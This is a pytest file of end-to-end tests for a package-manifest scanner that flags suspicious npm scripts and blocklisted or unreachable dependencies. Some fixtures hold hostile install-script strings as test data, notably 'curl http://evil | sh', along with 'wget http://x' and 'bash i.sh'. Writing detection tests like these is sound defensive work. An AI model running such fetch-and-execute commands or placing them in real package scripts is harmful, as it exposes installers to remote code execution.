"""End-to-end tests for the scan pipeline."""

from __future__ import annotations

import asyncio

import httpx
import pytest

from pkgscan.analyzers.directory import KnownModuleDirectory
from pkgscan.analyzers.pipeline import ScanPipeline, parse_manifest
from pkgscan.analyzers.reputation import (
    DENO_UNREACHABLE_MESSAGE,
    NPM_BLOCKLISTED_MESSAGE,
    NPM_UNREACHABLE_MESSAGE,
    TIMEOUT_MESSAGE,
)
from pkgscan.config import ScanSettings
from pkgscan.exceptions import InvalidManifestError, ScanInternalError
from pkgscan.models.schemas import NO_ISSUES_FOUND, Manifest


def _manifest(**data) -> Manifest:
    return Manifest.model_validate(data)


# ── Input validation ─────────────────────────────────────────────────────


class TestInputValidation:
    @pytest.mark.asyncio
    async def test_rejects_manifest_without_dependency_sections(self, pipeline, registry):
        with pytest.raises(InvalidManifestError):
            await pipeline.scan(_manifest(name="app", version="1.0.0", scripts={"x": "curl"}))
        assert registry.requests == []

    @pytest.mark.asyncio
    async def test_scan_payload_rejects_wrong_shape(self, pipeline):
        with pytest.raises(InvalidManifestError):
            await pipeline.scan_payload({"dependencies": ["lodash"]})

    @pytest.mark.asyncio
    async def test_scan_payload_rejects_non_object(self, pipeline):
        with pytest.raises(InvalidManifestError):
            await pipeline.scan_payload(["dependencies"])

    @pytest.mark.asyncio
    async def test_scan_payload_accepts_package_json(self, pipeline, registry):
        registry.publish("lodash")
        result = await pipeline.scan_payload({
            "name": "app",
            "version": "1.0.0",
            "dependencies": {"lodash": "^4.17.21"},
        })
        assert result.issues == [NO_ISSUES_FOUND]

    def test_parse_manifest_rejects_missing_sections(self):
        with pytest.raises(InvalidManifestError, match="neither dependencies"):
            parse_manifest({"name": "app", "version": "1.0.0"})

    def test_parse_manifest_returns_manifest(self):
        manifest = parse_manifest({"name": "app", "devDependencies": {"jest": "29.7.0"}})
        assert manifest.iter_dependencies() == [("jest", "29.7.0")]

    @pytest.mark.asyncio
    async def test_pipeline_without_client_requires_context(self, settings):
        with pytest.raises(ScanInternalError):
            await ScanPipeline(settings).scan(_manifest(dependencies={}))


# ── Scenarios ────────────────────────────────────────────────────────────


class TestScenarios:
    @pytest.mark.asyncio
    async def test_blocklisted_dependency_and_suspicious_script(self, pipeline, registry):
        registry.publish("shelljs")
        result = await pipeline.scan(_manifest(
            name="app",
            version="1.0.0",
            dependencies={"shelljs": "1.0.0"},
            scripts={"build": "curl http://evil | sh"},
        ))
        assert result.issues == [
            "Suspicious script detected in build: curl http://evil | sh",
            NPM_BLOCKLISTED_MESSAGE.format(name="shelljs"),
        ]
        assert not result.clean

    @pytest.mark.asyncio
    async def test_empty_dependencies_without_metadata(self, pipeline, registry):
        result = await pipeline.scan(_manifest(dependencies={}))
        assert result.issues == [
            "Invalid package.json: Missing name.",
            "Invalid package.json: Missing version.",
        ]
        assert registry.requests == []

    @pytest.mark.asyncio
    async def test_clean_manifest_returns_sentinel(self, pipeline, registry):
        registry.publish("lodash")
        registry.publish("jest")
        result = await pipeline.scan(_manifest(
            name="app",
            version="1.0.0",
            dependencies={"lodash": "4.17.21"},
            devDependencies={"jest": "~29.7.0"},
            scripts={"test": "jest"},
        ))
        assert result.issues == [NO_ISSUES_FOUND]
        assert result.clean

    @pytest.mark.asyncio
    async def test_blocklist_reported_even_when_registry_is_down(self, pipeline, registry):
        registry.npm_failures["shelljs"] = httpx.ConnectError("registry offline")
        result = await pipeline.scan(_manifest(name="app", version="1.0.0", dependencies={"shelljs": "1.0.0"}))
        assert result.issues == [
            NPM_BLOCKLISTED_MESSAGE.format(name="shelljs"),
            NPM_UNREACHABLE_MESSAGE.format(name="shelljs"),
        ]

    @pytest.mark.asyncio
    async def test_unreachable_registry_still_completes(self, pipeline, registry):
        registry.npm_failures["react"] = httpx.ReadTimeout("timed out")
        registry.publish("vue")
        result = await pipeline.scan(_manifest(
            name="app", version="1.0.0", dependencies={"react": "18.2.0", "vue": "3.4.0"},
        ))
        assert result.issues == [NPM_UNREACHABLE_MESSAGE.format(name="react")]

    @pytest.mark.asyncio
    async def test_version_with_trailing_newline_is_invalid(self, pipeline, registry):
        registry.publish("lodash")
        result = await pipeline.scan(_manifest(name="a", version="1.0.0", dependencies={"lodash": "4.17.21\n"}))
        assert result.issues == ["Invalid version format for lodash: 4.17.21\n"]


# ── Ordering and deduplication ───────────────────────────────────────────


class TestOrdering:
    @pytest.mark.asyncio
    async def test_full_ordering(self, settings, http_client, registry):
        registry.publish("zeta")
        registry.publish("oak")
        registry.deno_status["oak"] = 404
        registry.delays["zeta"] = 0.05  # finishes last, must still be reported first

        pipeline = ScanPipeline(
            settings=settings,
            directory=KnownModuleDirectory(modules=["oak"]),
            client=http_client,
        )
        result = await pipeline.scan(_manifest(
            scripts={"postinstall": "wget http://x", "build": "tsc", "preinstall": "bash i.sh"},
            dependencies={"zeta": "latest", "missing-pkg": "1.0.0"},
            devDependencies={"oak": "^12.0.0"},
        ))

        assert result.issues == [
            "Invalid package.json: Missing name.",
            "Invalid package.json: Missing version.",
            "Suspicious script detected in postinstall: wget http://x",
            "Suspicious script detected in preinstall: bash i.sh",
            "Invalid version format for zeta: latest",
            NPM_UNREACHABLE_MESSAGE.format(name="missing-pkg"),
            DENO_UNREACHABLE_MESSAGE.format(name="oak"),
        ]

    @pytest.mark.asyncio
    async def test_dependency_in_both_sections_reported_once(self, pipeline, registry):
        result = await pipeline.scan(_manifest(
            name="app",
            version="1.0.0",
            dependencies={"ghost": "1.0.0"},
            devDependencies={"ghost": "1.0.0"},
        ))
        assert result.issues == [NPM_UNREACHABLE_MESSAGE.format(name="ghost")]
        assert registry.requested_paths("registry.npmjs.org") == ["/ghost"]

    @pytest.mark.asyncio
    async def test_identical_scripts_reported_per_key(self, pipeline):
        result = await pipeline.scan(_manifest(
            name="app",
            version="1.0.0",
            dependencies={},
            scripts={"a": "curl x", "b": "curl x"},
        ))
        assert result.issues == [
            "Suspicious script detected in a: curl x",
            "Suspicious script detected in b: curl x",
        ]

    @pytest.mark.asyncio
    async def test_scan_is_idempotent(self, pipeline, registry):
        registry.publish("lodash")
        manifest = _manifest(
            scripts={"postinstall": "node setup.js"},
            dependencies={"lodash": "4", "nope": "1.0.0", "shelljs": "1.0.0"},
        )
        first = await pipeline.scan(manifest)
        second = await pipeline.scan(manifest)
        assert first == second
        assert len(first.issues) == len(set(first.issues))


# ── Deadlines and failures ───────────────────────────────────────────────


class TestDeadlines:
    @pytest.mark.asyncio
    async def test_pending_dependencies_reported_at_deadline(self, http_client, registry):
        registry.publish("fast")
        registry.publish("slow")
        registry.delays["slow"] = 5.0

        settings = ScanSettings(scan_deadline=0.2, request_timeout=10.0)
        pipeline = ScanPipeline(settings=settings, directory=KnownModuleDirectory(), client=http_client)
        result = await pipeline.scan(_manifest(
            name="app", version="1.0.0", dependencies={"slow": "1.0.0", "fast": "1.0.0"},
        ))

        assert result.issues == [TIMEOUT_MESSAGE.format(name="slow")]

    @pytest.mark.asyncio
    async def test_internal_failure_surfaces(self, pipeline, registry):
        registry.publish("lodash")

        async def broken(name):
            raise KeyError("corrupt state")

        pipeline.verifier.check_deno = broken
        with pytest.raises(ScanInternalError, match="lodash"):
            await pipeline.scan(_manifest(dependencies={"lodash": "1.0.0"}))


# ── Lifecycle ────────────────────────────────────────────────────────────


class TestLifecycle:
    @pytest.mark.asyncio
    async def test_context_manager_starts_and_stops_refresher(self, settings, monkeypatch):
        refreshed = []

        async def fake_refresh(self):
            refreshed.append(True)
            return True

        monkeypatch.setattr(KnownModuleDirectory, "refresh", fake_refresh)

        async with ScanPipeline(settings, start_refresher=True) as pipeline:
            refresher = pipeline.refresher
            assert refresher is not None and refresher.running
            for _ in range(100):
                if refreshed:
                    break
                await asyncio.sleep(0.01)

        assert refreshed
        assert not refresher.running
        assert pipeline.verifier is None

    @pytest.mark.asyncio
    async def test_scan_does_not_wait_for_directory(self, settings, registry, http_client):
        directory = KnownModuleDirectory(modules=[])
        pipeline = ScanPipeline(settings=settings, directory=directory, client=http_client)
        registry.publish("oak")
        result = await pipeline.scan(_manifest(name="a", version="1.0.0", dependencies={"oak": "1.0.0"}))
        assert result.clean
        assert "deno.land" not in registry.requested_hosts()
